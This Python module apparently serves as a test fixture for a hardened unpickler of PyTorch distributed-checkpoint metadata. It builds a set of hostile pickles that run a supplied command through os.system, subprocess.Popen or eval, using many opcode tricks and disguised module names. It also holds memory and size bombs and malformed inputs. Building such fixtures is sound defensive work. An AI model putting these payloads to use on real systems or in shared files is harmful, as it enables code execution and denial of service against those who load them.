"""Pickles that would run a command under a careless unpickler, and the opcodes to write more of them."""

from __future__ import annotations

import pickle
import struct

METADATA = b"torch.distributed.checkpoint.metadata"


def text(value: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value


def stack_global(module: bytes, name: bytes) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(function: bytes, command: bytes) -> bytes:
    return function + text(command) + b"\x85R"


def hostile(command: bytes) -> dict[str, bytes]:
    """Return pickles that would run ``command`` under a careless unpickler, each in its own way."""
    system = b"cos\nsystem\n"
    metadata = stack_global(METADATA, b"Metadata") + b")\x81"
    inner = b"\x80\x04" + call(system, command) + b"."
    return {
        "reduce": b"\x80\x02" + call(system, command) + b".",
        "reduce by stack_global": b"\x80\x04" + call(stack_global(b"posix", b"system"), command) + b".",
        "builtins": b"\x80\x04" + call(stack_global(b"builtins", b"eval"), b"__import__('os')") + b".",
        "old instance": b"(" + text(command) + b"ios\nsystem\n.",
        "object": b"(" + system + text(command) + b"o.",
        "extension code": b"\x80\x04\x82\x01" + text(command) + b"\x85R.",
        "newobj": b"\x80\x04" + stack_global(b"subprocess", b"Popen") + text(command) + b"\x85\x81.",
        "newobj_ex": b"\x80\x04" + stack_global(b"subprocess", b"Popen") + text(command) + b"\x85}\x92.",
        "deep in the metadata": b"\x80\x04" + metadata + b"}(" + text(b"storage_meta") + call(system, command) + b"ub.",
        "disguised module": b"\x80\x04" + call(stack_global(METADATA, b"os.system"), command) + b".",
        "dotted name": b"\x80\x04" + call(stack_global(METADATA, b"Metadata.__init__.__globals__"), command) + b".",
        "dotted dtype": b"\x80\x04" + call(stack_global(b"torch", b"os.system"), command) + b".",
        "getattr": b"\x80\x04" + stack_global(b"builtins", b"getattr") + metadata + text(b"__class__") + b"\x86R.",
        "build on a class": b"\x80\x04"
        + stack_global(METADATA, b"Metadata")
        + b"N}("
        + text(b"__setstate__")
        + system
        + b"u\x86b.",
        "build on a function": b"\x80\x04"
        + stack_global(b"torch.serialization", b"_get_layout")
        + b"N}("
        + text(b"_fn")
        + system
        + b"u\x86b.",
        "build with a dict on a class": b"\x80\x04"
        + stack_global(b"torch", b"Size")
        + b"}("
        + text(b"__new__")
        + system
        + b"ub.",
        "nested pickle": b"\x80\x04"
        + stack_global(b"pickle", b"loads")
        + b"C"
        + bytes([len(inner)])
        + inner
        + b"\x85R.",
        "persistent id": b"\x80\x04" + text(command) + b"Q.",
        "text persistent id": b"P" + command + b"\n.",
        "memo bomb": b"\x80\x04Nr\xff\xff\xff\x7f.",
        "size bomb": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b".",
        "string bomb": b"\x80\x04\x8d" + struct.pack("<Q", 2**62) + b".",
        "number bomb": b"\x80\x04\x8b" + struct.pack("<I", 2**31 - 1) + b".",
        "empty": b"",
        "no end": b"\x80\x04N",
        "cut name": b"cos\nsyst",
        "no stack": b"\x80\x04R.",
        "only an end": b".",
        "not a pickle": command,
        "a wrong object": pickle.dumps({"state_dict_metadata": {}}),
        "a set": pickle.dumps({1, 2}),
        "a byte array": pickle.dumps(bytearray(b"abc"), protocol=5),
        "unhashable key": b"\x80\x04}]Ns.",
    }


NAMES = list(hostile(b""))
